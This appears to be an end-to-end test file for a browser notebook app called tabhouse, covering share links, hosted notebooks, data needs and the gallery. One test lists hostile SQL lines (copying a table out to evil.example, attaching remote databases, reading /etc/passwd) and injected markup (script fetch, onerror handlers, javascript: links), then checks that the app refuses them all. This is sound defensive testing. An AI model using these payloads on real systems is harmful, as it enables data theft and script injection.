import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page } from 'playwright';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { sharedFragment } from '../../src/notebook/share/link.ts';
import { type Visit, type VisitOptions, visit } from './support/browser.ts';
import { cells, settled } from './support/cells.ts';
import { SHOP } from './support/shop.ts';
import { type Site, serveSite } from './support/site.ts';
import { tabhouse } from './support/tabhouse.ts';

const HOSTED = `---
title: Views by day
needs: { events: [event_time, user_id] }
---
# Views by day

\`\`\`input least
type: number
label: At least
value: 1
\`\`\`

\`\`\`sql days
select day, count(*)::integer as n from dwd group by all having n >= $least order by day
\`\`\`
`;

let folder: string;
let site: Site;
beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'tabhouse-share-'));
  const put = (name: string, content: string) => {
    writeFileSync(join(folder, name), content);
    return join(folder, name);
  };
  site = await serveSite('/some/sub/path/', {
    'hosted/days.md': put('days.md', HOSTED),
    'hosted/shop.csv': put('UserBehavior.csv', SHOP.content),
  });
});
afterAll(async () => {
  await site?.close();
  rmSync(folder, { recursive: true, force: true });
});

/** `work` as a reader with a browser of their own; nothing may leave the page's origin, nothing may throw. */
async function reading(
  search: string,
  work: (page: Page, reader: Visit) => Promise<void>,
  options: VisitOptions = {},
): Promise<void> {
  const reader = await visit(site, { ...options, search });
  try {
    await tabhouse(reader.page).ready();
    await work(reader.page, reader);
    expect(reader.foreign).toEqual([]);
    expect(reader.errors).toEqual([]);
  } finally {
    await reader.close();
  }
}

/** Rows of a cell on screen. */
const rowsOf = (page: Page, name: string) =>
  page.evaluate((wanted) => {
    const look = (root: Document | ShadowRoot): unknown => {
      for (const element of root.querySelectorAll('*')) {
        if (element.localName === 'th-cell') {
          const { cell, result } = element as unknown as {
            cell: { name: string | null };
            result: { rows: object[] } | null;
          };
          if (cell.name === wanted) return result?.rows.map((row) => ({ ...row })) ?? null;
        }
        const inside = element.shadowRoot && look(element.shadowRoot);
        if (inside) return inside;
      }
      return null;
    };
    return look(document) as Record<string, unknown>[] | null;
  }, name);

const fragment = async (text: string, values: Record<string, unknown> = {}) =>
  `#${await sharedFragment({ text, values: new Map(Object.entries(values)) })}`;

async function done(page: Page, name: string, timeout = 30_000): Promise<void> {
  await expect
    .poll(async () => (await cells(page)).find((cell) => cell.name === name)?.phase, {
      timeout,
    })
    .toBe('done');
}

const setInput = (page: Page, value: number) =>
  page
    .getByRole('spinbutton', { name: 'At least' })
    .fill(String(value))
    .then(() => page.keyboard.press('Enter'));

describe('a link', () => {
  test('opens the same notebook with the same inputs in another browser', async () => {
    let link = '';
    await reading('?notebook=hosted/days.md&data=hosted/shop.csv', async (page) => {
      await done(page, 'days');
      expect(await rowsOf(page, 'days')).toHaveLength(9);
      await setInput(page, 12);
      await expect.poll(async () => (await rowsOf(page, 'days'))?.length).toBeLessThan(9);
      await page.getByRole('button', { name: 'Share' }).click();
      const field = page.getByRole('textbox', { name: 'Link to this notebook' });
      await expect.poll(() => field.inputValue()).toContain('#notebook=1.');
      link = await field.inputValue();
      const dialog = page.locator('th-share-dialog');
      await dialog.getByText(/[\d,]+ characters/).waitFor();
      await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
      await dialog.getByRole('button', { name: 'Copy', exact: true }).click();
      await dialog.getByRole('button', { name: 'Copied' }).waitFor();
      await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).toBe(link);
    });
    const expected = { few: 0 };
    await reading(link.slice(site.url.length), async (page) => {
      await done(page, 'days');
      expect(await page.getByRole('spinbutton', { name: 'At least' }).inputValue()).toBe('12');
      const rows = (await rowsOf(page, 'days')) ?? [];
      expected.few = rows.length;
      expect(rows.length).toBeGreaterThan(0);
      expect(rows.every(({ n }) => Number(n) >= 12)).toBe(true);
    });
    // Without the hosted data, the inputs wait for the files that this reader opens.
    const bare = link.slice(site.url.length).replace(/^\?data=[^#]*/, '');
    await reading(bare, async (page) => {
      await page.getByText('This notebook waits for data.').waitFor();
      await tabhouse(page).open([SHOP], { source: 'taobao' });
      await done(page, 'days');
      expect(await page.getByRole('spinbutton', { name: 'At least' }).inputValue()).toBe('12');
      expect(await rowsOf(page, 'days')).toHaveLength(expected.few);
    });
  }, 240_000);

  test('put into a page that is open without data opens what it holds', async () => {
    const hash = await fragment(HOSTED, { least: 12 });
    await reading('', async (page) => {
      await page.getByRole('button', { name: 'Try the sample' }).waitFor();
      await page.evaluate((put) => {
        location.hash = put;
      }, hash);
      await page.getByText('This notebook waits for data.').waitFor();
      await tabhouse(page).open([SHOP], { source: 'taobao' });
      await done(page, 'days');
      expect(await page.getByRole('spinbutton', { name: 'At least' }).inputValue()).toBe('12');
    });
  });

  test('leads to one cell', async () => {
    const long = `${HOSTED}\n${'A paragraph.\n\n'.repeat(80)}\n\`\`\`sql last\nselect 1 as one\n\`\`\`\n`;
    await reading(`?data=hosted/shop.csv${await fragment(long)}&cell=last`, async (page) => {
      await done(page, 'last');
      await expect.poll(() => page.locator('th-cell[kind="sql"]').last().isVisible()).toBe(true);
      await expect
        .poll(
          async () => {
            const box = await page.locator('th-cell[kind="sql"]').last().boundingBox();
            return box !== null && box.y >= 0 && box.y < 900;
          },
          { timeout: 40_000 },
        )
        .toBe(true);
    });
  });

  test('that was damaged says so in the reader’s language and loses nothing', async () => {
    const whole = await fragment(HOSTED, { least: 3 });
    const cases = [
      ['en', whole.slice(0, -20), /does not hold a whole notebook/],
      ['zh-CN', whole.slice(0, -20), /笔记本不完整/],
      [
        'en',
        whole.replace(/.$/, (last) => (last === 'A' ? 'B' : 'A')),
        /does not hold a whole notebook|link/,
      ],
      ['en', '#notebook=9.x.y', /newer version/],
    ] as const;
    for (const [locale, hash, said] of cases) {
      await reading(
        hash,
        async (page) => {
          await page.getByText(said).first().waitFor();
          await page
            .getByRole('button', { name: /sample|示例|试用/i })
            .first()
            .waitFor();
        },
        { locale },
      );
    }
    await reading('', async (page) => {
      await tabhouse(page).open([SHOP], { source: 'taobao' });
      await settled(page);
      await page.evaluate(
        (hash) => {
          location.hash = hash;
        },
        whole.slice(0, -20),
      );
      await page
        .getByText(/does not hold a whole notebook/)
        .first()
        .waitFor();
      expect((await cells(page)).some(({ kind }) => kind === 'tile')).toBe(true);
    });
  });
});

describe('a hosted notebook', () => {
  test('of this origin opens, with data of this origin', async () => {
    await reading('?notebook=hosted/days.md&data=hosted/shop.csv', async (page) => {
      await done(page, 'days');
      await page.getByText('This notebook is hosted at hosted/days.md.').waitFor();
    });
  });

  test('of the gallery opens by its name', async () => {
    await reading('?notebook=speed', async (page) => {
      await page.getByRole('heading', { level: 1, name: 'How fast is this, here?' }).waitFor();
    });
  });

  test('of the gallery comes with its data, asked for by name or by path', async () => {
    const text = { title: 'Views by day', description: '', needs: null };
    const days = { ...text, path: 'hosted/days.md', data: 'hosted/shop.csv' };
    const list = join(folder, 'index.json');
    writeFileSync(list, JSON.stringify([{ name: 'days', languages: { en: days } }]));
    const published = await serveSite('/some/sub/path/', {
      'hosted/days.md': join(folder, 'days.md'),
      'hosted/shop.csv': join(folder, 'UserBehavior.csv'),
      'notebooks/index.json': list,
    });
    for (const asked of ['days', days.path]) {
      const reader = await visit(published, { search: `?notebook=${asked}` });
      await done(reader.page, 'days', 60_000);
      await expect.poll(() => rowsOf(reader.page, 'days'), { timeout: 40_000 }).toHaveLength(9);
      await reader.close();
    }
    await published.close();
  }, 240_000);

  test('of another origin, or none, is refused with a sentence', async () => {
    const cases = [
      ['https://elsewhere.example/a.md', /lies on another host/],
      ['//elsewhere.example/a.md', /lies on another host/],
      ['data:text/markdown,%23%20Hi', /lies on another host/],
      ['hosted/none.md', /There is no notebook at/],
    ] as const;
    for (const [path, said] of cases) {
      await reading(`?notebook=${encodeURIComponent(path)}`, async (page) => {
        await page.getByText(said).first().waitFor();
      });
    }
  });
});

describe('a notebook from elsewhere', () => {
  const HOSTILE = [
    ['attach', "attach 'https://evil.example/a.db'"],
    ['copy_out', "copy (select * from dwd) to 'https://evil.example/x.csv'"],
    ['install', 'install httpfs'],
    ['set_it', 'set enable_external_access=true'],
    ['drop_it', 'drop view dwd'],
    ['pragma', 'pragma database_list'],
    ['csv', "select * from read_csv('https://evil.example/a.csv')"],
    ['csv_auto', "from 'https://evil.example/b.csv'"],
    ['parquet', "select * from read_parquet('https://evil.example/a.parquet')"],
    ['json', "select * from read_json('https://evil.example/a.json')"],
    ['text_file', "select * from read_text('/etc/passwd')"],
    ['globs', "select * from glob('*')"],
    ['two', 'select 1; drop view dwd'],
    ['extension', 'load httpfs'],
  ] as const;

  const text = `# Trust me

<script>window.pwned = 1; fetch('https://evil.example/s')</script>
<img src="https://evil.example/i.png" onerror="window.pwned = 2">
<img src="x" onerror="window.pwned = 3">
![pixel](https://evil.example/p.png)
[click](javascript:window.pwned=4)
<a href="javascript:window.pwned=5">click</a>
<iframe src="https://evil.example/"></iframe>
<svg onload="window.pwned = 6"><image href="https://evil.example/v.png"/></svg>
<link rel="stylesheet" href="https://evil.example/c.css">
<style>body { background: url(https://evil.example/b.png) }</style>
<form action="https://evil.example/f"><button>Send</button></form>

${HOSTILE.map(([name, sql]) => `\`\`\`sql ${name}\n${sql}\n\`\`\`\n`).join('\n')}
\`\`\`sql fine
select count(*)::integer as n from dwd
\`\`\`
`;

  test('can only read: what does more is refused with a sentence, nothing is asked for, nothing runs', async () => {
    await reading(`?data=hosted/shop.csv${await fragment(text)}`, async (page, { context }) => {
      const asked: string[] = [];
      context.on('request', (request) => asked.push(request.url()));
      await done(page, 'fine');
      const banner = page.locator('th-reading-banner');
      await banner.getByText('This notebook came with a link.').waitFor();
      await banner.getByText(/never read: .*evil\.example/).waitFor();
      await banner.getByText(/never run: .*ATTACH/).waitFor();
      await expect
        .poll(async () =>
          (await cells(page))
            .filter(({ name }) => HOSTILE.some(([one]) => one === name))
            .filter(({ phase }) => phase !== 'failed'),
        )
        .toEqual([]);
      for (const { name, error } of await cells(page)) {
        if (HOSTILE.some(([one]) => one === name))
          expect(error, String(name)).toMatch(/TabhouseError: sql/);
      }
      const sentences = await page
        .locator('th-error')
        .evaluateAll((all) => all.map((one) => one.shadowRoot?.textContent ?? ''));
      expect(sentences.length).toBeGreaterThanOrEqual(HOSTILE.length);
      expect(sentences.every((one) => one.trim().length > 20)).toBe(true);
      for (const link of await page.getByText('click').all()) await link.click({ force: true });
      await page.waitForTimeout(300);
      expect(await page.evaluate(() => (window as { pwned?: number }).pwned)).toBeUndefined();
      expect(asked.filter((url) => url.includes('evil'))).toEqual([]);
      expect(await tabhouse(page).query('select count(*)::integer as n from dwd')).toEqual(
        await rowsOf(page, 'fine'),
      );
    });
  });

  test('becomes one’s own with one click', async () => {
    await reading(`?data=hosted/shop.csv${await fragment(HOSTED)}`, async (page) => {
      const banner = page.locator('th-reading-banner');
      await banner.getByText(/Tables/).waitFor();
      await banner.getByRole('button', { name: 'Make it mine' }).click();
      await banner.waitFor({ state: 'detached' });
      await expect.poll(() => page.evaluate(() => location.hash)).toBe('');
      await done(page, 'days');
      const mine = await page.evaluate(
        () => document.querySelector('tabhouse-app')?.workspace?.notebooks.current.value?.origin,
      );
      expect(mine).toBe('mine');
    });
  });
});

describe('what a notebook needs', () => {
  const NEEDY = `---
needs: { events: [user_id, price], sales: [user_id, item_id] }
---
# Sales

\`\`\`sql sold
select count(*)::integer as n from sales
\`\`\`
`;

  test('and the data lacks is said, with what could stand for it; taking an offer can be undone', async () => {
    await reading(`?data=hosted/shop.csv${await fragment(NEEDY)}`, async (page) => {
      const card = page.locator('th-needs-card');
      await card.getByText('It needs “price” of events, which this data does not have.').waitFor();
      const offer = card
        .locator('th-button')
        .filter({ hasText: /^\s*Use / })
        .first();
      const table = ((await offer.textContent()) ?? '').trim().replace(/^Use /, '');
      await offer.click();
      await done(page, 'sold');
      const [row] = await tabhouse(page).query(`select count(*)::integer as n from "${table}"`);
      expect(await rowsOf(page, 'sold')).toEqual([row]);
      await page.evaluate(() =>
        document.querySelector('tabhouse-app')?.workspace?.document.editor.value?.undo(),
      );
      await expect
        .poll(async () => (await cells(page)).find(({ name }) => name === 'sold')?.phase)
        .toMatch(/failed|blocked/);
    });
  });

  test('is asked for where no data is open', async () => {
    await reading(await fragment(HOSTED), async (page) => {
      const card = page.locator('th-needs-card');
      await card.getByText(/It needs events \(event_time, user_id\)/).waitFor();
      await card.getByRole('button', { name: /sample/i }).click();
      await done(page, 'days', 100_000);
      await card.waitFor({ state: 'detached' });
    });
  });
});

describe('the gallery', () => {
  test('shows what was published, and whether the data has what each needs', async () => {
    await reading('', async (page) => {
      const card = page.getByRole('button', { name: /The state of the shop/ });
      await card.waitFor();
      expect(await card.textContent()).toContain('event_time');
      await tabhouse(page).open([SHOP], { source: 'taobao' });
      await settled(page);
      await page.locator('th-top-bar').getByRole('button', { name: 'Published notebooks' }).click();
      const dialog = page.locator('th-gallery-dialog');
      await dialog.getByText('Your data has it').first().waitFor();
      await dialog.getByRole('button', { name: /How fast is this/ }).click();
      await page.getByRole('heading', { level: 1, name: 'How fast is this, here?' }).waitFor();
      await expect.poll(() => dialog.count()).toBe(0);
    });
  });

  test('speaks the reader’s language', async () => {
    await reading(
      '',
      async (page) => {
        await page.getByRole('button', { name: /店铺现状/ }).waitFor();
      },
      { locale: 'zh-CN' },
    );
  });
});
